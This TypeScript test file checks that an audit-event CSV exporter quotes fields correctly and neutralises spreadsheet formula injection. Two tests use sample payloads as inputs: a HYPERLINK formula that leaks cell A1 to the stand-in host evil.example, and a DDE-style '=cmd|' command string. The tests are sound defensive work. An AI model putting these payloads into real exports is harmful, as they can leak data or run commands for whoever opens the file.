import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { auditEventsToCsv, csvField } from './csv-export'
import type { AuditEventDto } from './queries.server'

const header = 'seq,occurredAt,eventType,eventCode,eventTypeCode,action,outcome,actorId,actorName,actorRole,sourceIp,entities,details,hash'

function event(overrides: Partial<AuditEventDto> = {}): AuditEventDto {
  return {
    seq: 7,
    occurredAt: '2026-01-05T09:00:07.000Z',
    eventType: 'role-changed',
    eventCode: '110113',
    eventTypeCode: '110136',
    action: 'U',
    outcome: 0,
    actor: { id: 'u-1', username: 'admin', role: 'admin' },
    sourceIp: '192.0.2.1',
    entities: [{ type: 'user', id: 'u-42' }],
    details: { username: 'rada', from: 'radiologist', to: 'auditor' },
    hash: 'a'.repeat(64),
    ...overrides,
  }
}

/** A strict RFC 4180 parser: CRLF records, quoted fields with doubled quotes, nothing else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let fields: string[] = []
  let index = 0
  while (index < text.length) {
    let field = ''
    if (text[index] === '"') {
      index++
      for (;;) {
        const quote = text.indexOf('"', index)
        assert.ok(quote >= 0, 'unterminated quoted field')
        field += text.slice(index, quote)
        index = quote + 1
        if (text[index] !== '"') break
        field += '"'
        index++
      }
    } else {
      const end = text.slice(index).search(/[,\r\n"]/)
      field = end < 0 ? text.slice(index) : text.slice(index, index + end)
      index += field.length
      assert.notEqual(text[index], '"', 'a quote inside an unquoted field')
    }
    fields.push(field)
    if (text[index] === ',') {
      index++
    } else {
      assert.equal(text.slice(index, index + 2), '\r\n', `a record ends in CRLF (at ${index})`)
      index += 2
      records.push(fields)
      fields = []
    }
  }
  return records
}

describe('auditEventsToCsv', () => {
  it('writes only the header row for no events', () => {
    assert.equal(auditEventsToCsv([]), `${header}\r\n`)
  })

  it('writes one CRLF-ended row per event, in order, with empty cells for missing values', () => {
    const csv = auditEventsToCsv([event(), event({ seq: 8, eventType: 'logout', eventTypeCode: null, actor: null, sourceIp: null, entities: [], details: {} })])
    assert.equal(
      csv,
      `${header}\r\n` +
        `7,2026-01-05T09:00:07.000Z,role-changed,110113,110136,U,0,u-1,admin,admin,192.0.2.1,user:u-42,` +
        `"{""from"":""radiologist"",""to"":""auditor"",""username"":""rada""}",${'a'.repeat(64)}\r\n` +
        `8,2026-01-05T09:00:07.000Z,logout,110113,,U,0,,,,,,{},${'a'.repeat(64)}\r\n`,
    )
  })

  it('joins entities as type:id with semicolons and writes details as canonical JSON', () => {
    const [, row] = parseCsv(
      auditEventsToCsv([
        event({
          entities: [
            { type: 'study', id: 'h-study' },
            { type: 'series', id: 'h-s1' },
          ],
          details: { source: 'local', instanceCount: 275 },
        }),
      ]),
    )
    assert.equal(row![11], 'study:h-study;series:h-s1')
    assert.equal(row![12], '{"instanceCount":275,"source":"local"}')
  })

  it('round-trips a row with commas, quotes, CR and LF through an RFC 4180 parser', () => {
    const tricky = event({
      // Raw CR and LF in plain cells; in details they arrive escaped by JSON.
      actor: { id: 'u-"9"', username: 'O\'Neil, "Doc"\nline two\r\nline three\r', role: 'radiologist' },
      entities: [{ type: 'resource', id: '/api/reads?a=1,b=2' }],
      details: { name: 'line one\r\nline "two"', note: 'a,b' },
    })
    const records = parseCsv(auditEventsToCsv([tricky]))
    assert.equal(records.length, 2)
    assert.deepEqual(records[0], header.split(','))
    const row = records[1]!
    assert.equal(row.length, 14)
    assert.equal(row[7], 'u-"9"')
    assert.equal(row[8], 'O\'Neil, "Doc"\nline two\r\nline three\r')
    assert.equal(row[11], 'resource:/api/reads?a=1,b=2')
    assert.deepEqual(JSON.parse(row[12]!), tricky.details)
  })

  it('neutralises formula injection in a user-controlled cell', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    const [, row] = parseCsv(auditEventsToCsv([event({ actor: { id: 'u-9', username: attack, role: 'radiologist' } })]))
    assert.equal(row![8], `'${attack}`)
  })
})

describe('csvField', () => {
  it('prefixes an apostrophe to a cell that starts with = + - @ TAB or CR (OWASP)', () => {
    assert.equal(csvField('=1+1'), "'=1+1")
    assert.equal(csvField('+1'), "'+1")
    assert.equal(csvField('-1'), "'-1")
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)")
    assert.equal(csvField('\tcmd'), "'\tcmd")
    assert.equal(csvField('\r=cmd'), `"'\r=cmd"`)
    assert.equal(csvField('=cmd|" /C calc"!A0'), `"'=cmd|"" /C calc""!A0"`)
  })

  it('leaves other cells alone, triggers later in the text included', () => {
    assert.equal(csvField('rada'), 'rada')
    assert.equal(csvField('a=b'), 'a=b')
    assert.equal(csvField(''), '')
    assert.equal(csvField("'quoted"), "'quoted")
  })

  it('quotes a field with a comma, quote, CR or LF and doubles embedded quotes', () => {
    assert.equal(csvField('a,b'), '"a,b"')
    assert.equal(csvField('say "hi"'), '"say ""hi"""')
    assert.equal(csvField('a\rb'), '"a\rb"')
    assert.equal(csvField('a\nb'), '"a\nb"')
  })
})
